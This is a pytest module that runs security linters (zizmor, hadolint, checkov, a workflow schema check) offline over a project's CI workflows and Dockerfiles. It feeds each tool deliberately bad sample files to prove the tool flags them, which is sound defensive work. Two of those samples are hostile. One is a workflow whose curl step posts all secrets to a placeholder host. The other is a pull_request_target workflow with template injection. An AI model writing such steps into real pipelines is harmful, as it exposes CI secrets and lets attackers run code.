"""Security checks of the delivery artefacts, by the tools of the field, offline:

* workflows against GitHub's workflow JSON schema (``check-jsonschema``, vendored schema);
* workflows linted by ``zizmor --offline``: zero high findings (zero findings at all today);
* Dockerfiles linted by ``hadolint``;
* ``checkov`` on the Dockerfiles and the workflows: zero failed checks, and every skip carries
  its justification in place (``# checkov:skip=CKV_...:<why>``).

Each tool is also shown a deliberately bad file and must object, so a tool that silently checks
nothing cannot pass. The rendered Kubernetes manifests are checked by checkov in
``tests/infra/targets/aks/test_manifests.py``.

checkov cannot live in the project venv: it pins ``packaging<24`` while pulumi needs ``>=26``.
It is looked up as ``$CHECKOV``, ``checkov`` on the PATH or ``.local/checkov/bin/checkov`` (the
same places as the AKS manifest tests); when none exists it is installed into ``.local/checkov``
from PyPI (``python3 -m venv .local/checkov && .local/checkov/bin/pip install 'checkov>=3.2,<4'``).
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

ROOT = Path(__file__).resolve().parents[2]
WORKFLOWS = sorted((ROOT / ".github" / "workflows").glob("*.yml"))
DOCKERFILES = [ROOT / "scoring" / "Dockerfile", ROOT / "scoring" / "functions.Dockerfile"]
CHECKOV_SPEC = "checkov>=3.2,<4"


def tool(name: str) -> str:
    """A console script of the project venv (the interpreter running the tests), else PATH."""
    beside = Path(sys.executable).parent / name
    found = str(beside) if beside.exists() else shutil.which(name)
    if not found:
        pytest.fail(f"{name} is not installed: pip install -e '.[dev]'", pytrace=False)
    return found


def run(*cmd: str, timeout: float = 300) -> subprocess.CompletedProcess[str]:
    return subprocess.run(cmd, capture_output=True, text=True, timeout=timeout, check=False)


BAD_WORKFLOW = """\
name: bad
on: pull_request_target
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
        with:
          ref: ${{ github.event.pull_request.head.sha }}
      - run: echo "${{ github.event.pull_request.title }}"
"""


def test_there_are_the_three_workflows():
    assert [p.name for p in WORKFLOWS] == ["deploy.yml", "drift.yml", "preview.yml"]


# --- JSON schema -------------------------------------------------------------------------------
@pytest.mark.parametrize("workflow", WORKFLOWS, ids=lambda p: p.name)
def test_workflow_matches_the_github_workflow_schema(workflow: Path):
    done = run(
        tool("check-jsonschema"), "--builtin-schema", "vendor.github-workflows", str(workflow)
    )
    assert done.returncode == 0, done.stdout + done.stderr


def test_the_schema_check_refuses_a_malformed_workflow(tmp_path: Path):
    bad = tmp_path / "bad.yml"
    bad.write_text("on: push\njobs:\n  x:\n    runs-on: ubuntu-24.04\n    steps: not-a-list\n")
    done = run(tool("check-jsonschema"), "--builtin-schema", "vendor.github-workflows", str(bad))
    assert done.returncode == 1, done.stdout + done.stderr


# --- zizmor ------------------------------------------------------------------------------------
def zizmor(path: Path) -> list[dict[str, Any]]:
    done = run(tool("zizmor"), "--offline", "--format", "json", "--no-progress", str(path))
    # exit codes: 0 clean, 1 error, >= 10 findings (by severity); JSON on stdout either way
    assert done.returncode != 1 and done.stdout.strip(), done.stderr[-2000:]
    return json.loads(done.stdout)


def _severity(finding: dict[str, Any]) -> str:
    return str(finding["determinations"]["severity"]).lower()


def test_zizmor_finds_nothing_high_in_our_workflows():
    findings = zizmor(ROOT / ".github" / "workflows")
    high = [f["ident"] for f in findings if _severity(f) == "high"]
    assert high == []
    # stronger than the bar: no finding at any severity today
    assert [(f["ident"], _severity(f)) for f in findings] == []


def test_zizmor_flags_a_dangerous_workflow(tmp_path: Path):
    bad = tmp_path / ".github" / "workflows" / "bad.yml"
    bad.parent.mkdir(parents=True)
    bad.write_text(BAD_WORKFLOW)
    findings = zizmor(bad)
    idents = {f["ident"] for f in findings if _severity(f) == "high"}
    assert {"template-injection", "dangerous-triggers"} <= idents, idents


# --- hadolint ------------------------------------------------------------------------------------
@pytest.mark.parametrize("dockerfile", DOCKERFILES, ids=lambda p: p.name)
def test_hadolint_passes(dockerfile: Path):
    assert dockerfile.exists(), f"{dockerfile} is missing"
    done = run(tool("hadolint"), "--no-color", str(dockerfile))
    assert done.returncode == 0, done.stdout + done.stderr


def test_hadolint_flags_a_bad_dockerfile(tmp_path: Path):
    bad = tmp_path / "Dockerfile"
    bad.write_text("FROM python:latest\nRUN apt-get install curl\nADD . /app\n")
    done = run(tool("hadolint"), "--no-color", str(bad))
    assert done.returncode != 0
    for rule in ("DL3007", "DL3008", "DL3020"):
        assert rule in done.stdout, done.stdout


# --- checkov -------------------------------------------------------------------------------------
def _find_checkov() -> str | None:
    for candidate in (
        os.environ.get("CHECKOV"),
        shutil.which("checkov"),
        str(ROOT / ".local" / "checkov" / "bin" / "checkov"),
    ):
        if candidate and Path(candidate).exists():
            return candidate
    return None


@pytest.fixture(scope="session")
def checkov() -> str:
    found = _find_checkov()
    if found:
        return found
    venv = ROOT / ".local" / "checkov"
    steps = [
        [sys.executable, "-m", "venv", "--clear", str(venv)],
        [str(venv / "bin" / "python"), "-m", "pip", "install", "--quiet", CHECKOV_SPEC],
    ]
    for cmd in steps:
        done = run(*cmd, timeout=900)
        if done.returncode != 0:
            pytest.fail(
                f"checkov is not installed and installing it failed ({' '.join(cmd)}): "
                f"{done.stderr[-1500:]}",
                pytrace=False,
            )
    return str(venv / "bin" / "checkov")


def checkov_reports(
    checkov: str, frameworks: Sequence[str], *targets: str
) -> dict[str, dict[str, Any]]:
    """checkov's JSON report of one run over ``targets``, per framework (its ``check_type``)."""
    done = run(
        checkov,
        "--framework",
        *frameworks,
        *targets,
        "--compact",  # not --quiet: the report must list skipped checks too
        "--skip-download",  # offline: no guideline download from the vendor's platform
        "-o",
        "json",
    )
    assert done.stdout.strip(), done.stderr[-2000:]
    report = json.loads(done.stdout)
    reports = report if isinstance(report, list) else [report]
    found = {f: [r for r in reports if r.get("check_type") == f] for f in frameworks}
    assert all(len(r) == 1 for r in found.values()), reports
    return {f: r for f, (r,) in found.items()}


def run_checkov(checkov: str, framework: str, *targets: str) -> dict[str, Any]:
    return checkov_reports(checkov, [framework], *targets)[framework]


CHECK_KINDS = ("passed", "failed", "skipped")


def _file_of(check: dict[str, Any]) -> Path:
    return Path(check["file_abs_path"]).resolve()


def _part(report: dict[str, Any], paths: Iterable[Path]) -> dict[str, Any]:
    """What a report on several files says about ``paths``: their checks (each carries its
    file's ``file_abs_path``), and the summary's counts taken over those checks."""
    keep = {p.resolve() for p in paths}
    results = {
        f"{kind}_checks": [c for c in report["results"][f"{kind}_checks"] if _file_of(c) in keep]
        for kind in CHECK_KINDS
    }
    return {
        "check_type": report["check_type"],
        "results": results,
        "summary": {kind: len(results[f"{kind}_checks"]) for kind in CHECK_KINDS},
    }


@dataclass(frozen=True)
class CheckovScan:
    reports: dict[str, dict[str, Any]]  # by framework
    workflows: list[Path]
    bad_dockerfile: Path
    bad_workflow: Path

    def part(self, framework: str, paths: Iterable[Path]) -> dict[str, Any]:
        return _part(self.reports[framework], paths)


@pytest.fixture(scope="module")
def checkov_scan(checkov: str, tmp_path_factory: pytest.TempPathFactory) -> CheckovScan:
    """One checkov run for the three checkov tests below (each start of checkov costs seconds of
    CPU): our Dockerfiles and workflows, and a bad Dockerfile and a bad workflow.

    The report is split per file, which is honest for these two frameworks only: no dockerfile or
    github_actions check joins resources (their graph checks are all attribute checks), so a
    file's checks are the ones a run on it alone reports. The kubernetes and arm graph checks
    connect resources across a run's files: the manifests and ARM templates get runs of their own
    (``tests/infra/targets/aks/test_manifests.py``, ``test_azure_checks.py``). Checked here for
    every framework: each file given has checks and no check is of another file, and checkov's own
    counts are the sum of the files' parts, so nothing falls between the parts."""
    bad = tmp_path_factory.mktemp("checkov-bad")
    bad_dockerfile = bad / "Dockerfile"
    bad_dockerfile.write_text("FROM python:3.11\nUSER root\nCOPY . /app\n")
    bad_workflow = bad / ".github" / "workflows" / "bad.yml"
    bad_workflow.parent.mkdir(parents=True)
    bad_workflow.write_text(
        "on: workflow_dispatch\n"
        "jobs:\n  x:\n    runs-on: ubuntu-24.04\n    steps:\n"
        '      - run: curl -d "$T" https://example.invalid\n'
        "        env:\n          T: ${{ toJSON(secrets) }}\n"
    )
    # -f, not -d (checkov takes one or the other): every workflow file -d would find
    workflows_dir = ROOT / ".github" / "workflows"
    workflows = sorted([*workflows_dir.glob("*.yml"), *workflows_dir.glob("*.yaml")])
    files = {
        "dockerfile": [*DOCKERFILES, bad_dockerfile],
        "github_actions": [*workflows, bad_workflow],
    }
    targets = [a for paths in files.values() for p in paths for a in ("-f", str(p))]
    reports = checkov_reports(checkov, list(files), *targets)
    for framework, paths in files.items():
        report = reports[framework]
        checks = [c for kind in CHECK_KINDS for c in report["results"][f"{kind}_checks"]]
        assert {_file_of(c) for c in checks} == {p.resolve() for p in paths}, framework
        whole = _part(report, paths)["summary"]
        assert whole == {kind: report["summary"][kind] for kind in CHECK_KINDS}, framework
        assert report["summary"]["parsing_errors"] == 0, framework
    return CheckovScan(reports, workflows, bad_dockerfile, bad_workflow)


def _failed(report: dict[str, Any]) -> list[str]:
    return [
        f"{c['check_id']} {c['file_abs_path']}:{c['file_line_range']} {c['check_name']}"
        for c in report["results"]["failed_checks"]
    ]


def _skips_are_justified(report: dict[str, Any]) -> None:
    assert "skipped_checks" in report["results"], report["results"].keys()
    for c in report["results"]["skipped_checks"]:
        reason = (c.get("check_result") or {}).get("suppress_comment") or ""
        assert reason.strip() and "No comment provided" not in reason, c["check_id"]


def test_checkov_dockerfiles(checkov_scan: CheckovScan):
    report = checkov_scan.part("dockerfile", DOCKERFILES)
    # one resource per Dockerfile: ours, and the bad one of test_checkov_flags_bad_files
    assert checkov_scan.reports["dockerfile"]["summary"]["resource_count"] == len(DOCKERFILES) + 1
    assert {_file_of(c) for c in report["results"]["passed_checks"]} == set(DOCKERFILES)
    assert report["summary"]["passed"] > 0
    assert _failed(report) == [] and report["summary"]["failed"] == 0
    _skips_are_justified(report)


def test_checkov_workflows(checkov_scan: CheckovScan):
    report = checkov_scan.part("github_actions", checkov_scan.workflows)
    assert report["summary"]["passed"] > 0
    assert _failed(report) == [] and report["summary"]["failed"] == 0
    _skips_are_justified(report)


def test_checkov_flags_bad_files(checkov_scan: CheckovScan):
    report = checkov_scan.part("dockerfile", [checkov_scan.bad_dockerfile])
    assert {"CKV_DOCKER_2", "CKV_DOCKER_8"} <= {
        c["check_id"] for c in report["results"]["failed_checks"]
    }
    report = checkov_scan.part("github_actions", [checkov_scan.bad_workflow])
    assert _failed(report), "checkov accepted a workflow that posts every secret"


def test_inline_skips_in_our_files_give_a_reason():
    pattern = re.compile(r"checkov:skip=([A-Z0-9_]+)(:?)(.*)")
    for path in [*WORKFLOWS, *DOCKERFILES]:
        for line in path.read_text().splitlines():
            m = pattern.search(line)
            if m:
                assert m.group(2) == ":" and m.group(3).strip(), f"{path.name}: {line.strip()}"
